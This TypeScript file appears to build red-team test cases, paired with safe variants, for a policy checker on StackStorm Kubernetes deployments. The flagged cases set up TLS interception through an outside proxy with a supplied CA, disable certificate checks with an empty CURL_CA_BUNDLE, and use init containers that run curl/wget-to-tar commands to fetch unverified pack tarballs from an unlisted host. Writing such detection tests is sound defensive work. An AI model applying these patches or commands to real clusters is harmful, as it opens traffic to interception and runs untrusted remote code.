/**
 * The fifteenth red team's TLS families (test/attackers/red15: mitmproxy-*,
 * tlsoff-*, packfetch-*), rewritten with variants and safe look-alikes:
 *   - an HTTPS proxy outside the cluster beside a CA the pod supplies, in
 *     the runners or the sensor container (ST2-SEC-048): whoever holds that
 *     CA's key terminates TLS at the proxy. A proxy alone only tunnels, a CA
 *     alone puts no one on the path, a proxy in the cluster is the cluster's;
 *   - CURL_CA_BUNDLE="" there (ST2-SEC-049): requests 2.25.1 (st2 3.8) turns
 *     certificate checks off; a bundle path, or REQUESTS_CA_BUNDLE="" alone,
 *     keeps them on;
 *   - a tarball from a host nobody listed unpacked by an init container into
 *     the packs volume the runners execute (ST2-SEC-024); one whose hash is
 *     checked first, or one unpacked elsewhere, passes.
 */
import type { Patch, RedTeamCase } from './corpus.js';
import { bodyCase, type CaseBody } from './case-body.js';
import { DEPLOY, FIRST, SPEC, patch, type Json } from './targets.js';

const PROXY = 'http://egress.tls-vendor-proxy.net:3128';
const NO_PROXY = 'st2api,st2auth,st2stream,mongodb,rabbitmq,etcd,localhost,.svc,.cluster.local';
const CA = '-----BEGIN CERTIFICATE-----\nMIIB0DCCAXWgAwIBAgIUP1KzU2vgkgqb/73dq2vpaKgPRdEwCgYIKoZIzj0EAwIw\nPTEkMCIGA1UEAwwbRXhhbXBsZSBDb3JwIEVncmVzcyBSb290IENBMRUwEwYDVQQK\nDAxFeGFtcGxlIENvcnAwHhcNMjYxMjA3MDk1MTAxWhcNMzYxMjA0MDk1MTAxWjA9\nMSQwIgYDVQQDDBtFeGFtcGxlIENvcnAgRWdyZXNzIFJvb3QgQ0ExFTATBgNVBAoM\nDEV4YW1wbGUgQ29ycDBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABOgoHk+kS7bF\n5IlPkOSfvX3qW+Zn5xkCsKFouwQPZwujnPD1wHTKzUKz1y7nfixoEUm0DYFmkuen\nYirLjipGQX6jUzBRMB0GA1UdDgQWBBSs2gXSxBk7rmFqZrtaCXddt5W+OjAfBgNV\nHSMEGDAWgBSs2gXSxBk7rmFqZrtaCXddt5W+OjAPBgNVHRMBAf8EBTADAQH/MAoG\nCCqGSM49BAMCA0kAMEYCIQDOH0JboO2/ioNQoxPiufzHnmhfapHsQizYL4pvG69n\nTgIhAPCnm3bB28qGnylVDZLb+6BIEVIOtKYWcUI4O9l94jve\n-----END CERTIFICATE-----\n';
const CA_MAP: Json = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'f15t-ca' }, data: { 'ca.pem': CA } };
const LIM = { requests: { cpu: '10m', memory: '16Mi' }, limits: { cpu: '100m', memory: '64Mi' } };
const SC = { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } };

type Vars = Record<string, string | null>;
const envOf = (vars: Vars): Json[] => Object.entries(vars).map(([name, value]) => (value === null ? { name } : { name, value }));

/** A workload's first container given env, and (mount) the CA ConfigMap at a path, optionally by subPath. */
function container(workload: string, vars: Vars, mount?: { path: string; subPath?: string }): Patch {
  const ops: Json[] = [{ op: 'add', path: `${FIRST}/env`, value: envOf(vars) }];
  if (mount !== undefined) {
    ops.push({ op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'f15t-ca', configMap: { name: 'f15t-ca' } } });
    ops.push({ op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'f15t-ca', mountPath: mount.path, readOnly: true, ...(mount.subPath ? { subPath: mount.subPath } : {}) } });
  }
  return patch(DEPLOY(workload), ...ops);
}

const withCa = (workload: string, vars: Vars, mount: { path: string; subPath?: string } = { path: '/etc/corp-ca' }): CaseBody => ({ resources: [CA_MAP], patches: [container(workload, vars, mount)] });

/** An init container after st2-system-packs writing into the shared packs (or another) volume. */
function packInit(script: string, mountPath = '/opt/stackstorm/packs-shared', volume = 'st2-packs-vol'): Patch {
  return patch(DEPLOY('st2actionrunner'), {
    op: 'add',
    path: `${SPEC}/initContainers/1`,
    value: { name: 'extra-packs', image: 'busybox:1.36.1', command: ['sh', '-c', script], volumeMounts: [{ name: volume, mountPath }], resources: LIM, securityContext: SC },
  });
}

export function fresh15TlsCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const add = (id: string, rule: string | undefined, body: CaseBody): void => {
    cases.push(bodyCase(`f15t-${id}`, 'delivery', rule, body));
  };

  // --- an outside HTTPS proxy beside a CA the pod supplies (ST2-SEC-048) ---------------------------
  add('mitm-runner-requests-bundle', 'ST2-SEC-048', withCa('st2actionrunner', { HTTPS_PROXY: PROXY, NO_PROXY, REQUESTS_CA_BUNDLE: '/etc/corp-ca/ca.pem' }));
  add('mitm-runner-ssl-cert-file', 'ST2-SEC-048', withCa('st2actionrunner', { HTTPS_PROXY: 'https://egress.tls-vendor-proxy.net:8443', NO_PROXY, SSL_CERT_FILE: '/etc/corp-ca/ca.pem' }));
  add('mitm-runner-cert-dir-all-proxy', 'ST2-SEC-048', withCa('st2actionrunner', { ALL_PROXY: 'socks5h://203.0.113.44:1080', NO_PROXY, SSL_CERT_DIR: '/etc/corp-ca' }));
  add('mitm-runner-lower-bare-host', 'ST2-SEC-048', withCa('st2actionrunner', { https_proxy: 'egress.tls-vendor-proxy.net:3128', no_proxy: NO_PROXY, CURL_CA_BUNDLE: '/etc/corp-ca/ca.pem' }));
  add('mitm-sensor-requests-bundle', 'ST2-SEC-048', withCa('st2sensorcontainer', { HTTPS_PROXY: PROXY, NO_PROXY, REQUESTS_CA_BUNDLE: '/etc/corp-ca/ca.pem' }));
  add('mitm-runner-over-system-store', 'ST2-SEC-048', withCa('st2actionrunner', { HTTPS_PROXY: PROXY, NO_PROXY }, { path: '/etc/ssl/certs/ca-certificates.crt', subPath: 'ca.pem' }));
  add('mitm-runner-over-certifi', 'ST2-SEC-048', withCa('st2actionrunner', { HTTPS_PROXY: PROXY, NO_PROXY }, { path: '/opt/stackstorm/st2/lib/python3.8/site-packages/certifi/cacert.pem', subPath: 'ca.pem' }));
  add('mitm-runner-envfrom', 'ST2-SEC-048', {
    resources: [CA_MAP, { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'f15t-net' }, data: { HTTPS_PROXY: PROXY, NO_PROXY, REQUESTS_CA_BUNDLE: '/etc/corp-ca/ca.pem' } }],
    patches: [container('st2actionrunner', {}, { path: '/etc/corp-ca' }), patch(DEPLOY('st2actionrunner'), { op: 'add', path: `${FIRST}/envFrom/-`, value: { configMapRef: { name: 'f15t-net' } } })],
  });
  add('safe-proxy-default-store', undefined, { patches: [container('st2actionrunner', { HTTPS_PROXY: PROXY, NO_PROXY })] });
  add('safe-ca-no-proxy', undefined, withCa('st2actionrunner', { REQUESTS_CA_BUNDLE: '/etc/corp-ca/ca.pem' }));
  add('safe-ca-in-cluster-proxy', undefined, withCa('st2actionrunner', { HTTPS_PROXY: 'http://squid.egress.svc.cluster.local:3128', NO_PROXY, REQUESTS_CA_BUNDLE: '/etc/corp-ca/ca.pem' }));
  add('safe-ca-proxy-bypassed-everywhere', undefined, withCa('st2actionrunner', { HTTPS_PROXY: PROXY, NO_PROXY: '*', REQUESTS_CA_BUNDLE: '/etc/corp-ca/ca.pem' }));
  add('safe-proxy-image-bundle-path', undefined, { patches: [container('st2sensorcontainer', { HTTPS_PROXY: PROXY, NO_PROXY, REQUESTS_CA_BUNDLE: '/etc/ssl/certs/ca-certificates.crt' })] });
  // A client certificate for mutual TLS under /etc/ssl is no CA store: nothing trusts it.
  add('safe-proxy-client-cert-under-etc-ssl', undefined, withCa('st2actionrunner', { HTTPS_PROXY: PROXY, NO_PROXY }, { path: '/etc/ssl/client' }));
  add('safe-ca-proxy-in-st2web', undefined, withCa('st2web', { ST2WEB_HTTPS: '1', HTTPS_PROXY: PROXY, NO_PROXY, SSL_CERT_FILE: '/etc/corp-ca/ca.pem' }));

  // --- certificate checks off by an empty CURL_CA_BUNDLE (ST2-SEC-049) -----------------------------
  add('tlsoff-runner-curl-empty', 'ST2-SEC-049', { patches: [container('st2actionrunner', { CURL_CA_BUNDLE: '' })] });
  add('tlsoff-runner-curl-no-value', 'ST2-SEC-049', { patches: [container('st2actionrunner', { CURL_CA_BUNDLE: null, HTTPS_PROXY: PROXY, NO_PROXY })] });
  add('tlsoff-sensor-both-empty', 'ST2-SEC-049', { patches: [container('st2sensorcontainer', { REQUESTS_CA_BUNDLE: '', CURL_CA_BUNDLE: '' })] });
  add('tlsoff-runner-valuefrom', 'ST2-SEC-049', {
    resources: [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'f15t-tls' }, data: { bundle: '' } }],
    patches: [patch(DEPLOY('st2actionrunner'), { op: 'add', path: `${FIRST}/env`, value: [{ name: 'CURL_CA_BUNDLE', valueFrom: { configMapKeyRef: { name: 'f15t-tls', key: 'bundle' } } }] })],
  });
  add('safe-tlsoff-requests-empty-only', undefined, { patches: [container('st2actionrunner', { REQUESTS_CA_BUNDLE: '' })] });
  add('safe-tlsoff-requests-path-wins', undefined, { patches: [container('st2actionrunner', { REQUESTS_CA_BUNDLE: '/etc/ssl/certs/ca-certificates.crt', CURL_CA_BUNDLE: '' })] });
  add('safe-tlsoff-curl-path', undefined, { patches: [container('st2sensorcontainer', { CURL_CA_BUNDLE: '/etc/ssl/certs/ca-certificates.crt' })] });

  // --- a pack tarball from an unlisted host into the packs volume (ST2-SEC-024) --------------------
  add('packfetch-curl-pipe-tar', 'ST2-SEC-024', { patches: [packInit('curl -fsSL https://artifacts.pack-drops.example.net/ops-pack-latest.tar.gz | tar -xz -C /opt/stackstorm/packs-shared')] });
  add('packfetch-wget-saved-tar', 'ST2-SEC-024', { patches: [packInit('wget -O /tmp/ops.tgz https://artifacts.pack-drops.example.net/ops.tgz && tar -C /opt/stackstorm/packs-shared -xzf /tmp/ops.tgz')] });
  add('packfetch-curl-unzip', 'ST2-SEC-024', { patches: [packInit('cd /tmp && curl -fsSLO https://artifacts.pack-drops.example.net/ops.zip && unzip -o ops.zip -d /opt/stackstorm/packs-shared')] });
  add('safe-packfetch-sha256-checked', undefined, { patches: [packInit('wget -O /tmp/ops.tgz https://artifacts.pack-drops.example.net/ops-1.4.2.tgz && echo "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  /tmp/ops.tgz" | sha256sum -c - && tar -xzf /tmp/ops.tgz -C /opt/stackstorm/packs-shared')] });
  add('safe-packfetch-digest-url', undefined, { patches: [packInit('curl -fsSL https://artifacts.pack-drops.example.net/sha256/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.tgz | tar -xz -C /opt/stackstorm/packs-shared')] });
  add('safe-packfetch-in-cluster', undefined, { patches: [packInit('curl -fsSL http://pack-mirror.st2-prod.svc:8080/ops.tgz | tar -xz -C /opt/stackstorm/packs-shared')] });
  add('safe-packfetch-other-volume', undefined, { patches: [packInit('wget -qO- https://artifacts.pack-drops.example.net/docs.tgz | tar -xz -C /srv/docs', '/srv/docs', 'st2-docs-scratch'), patch(DEPLOY('st2actionrunner'), { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'st2-docs-scratch', emptyDir: {} } })] });

  return cases;
}
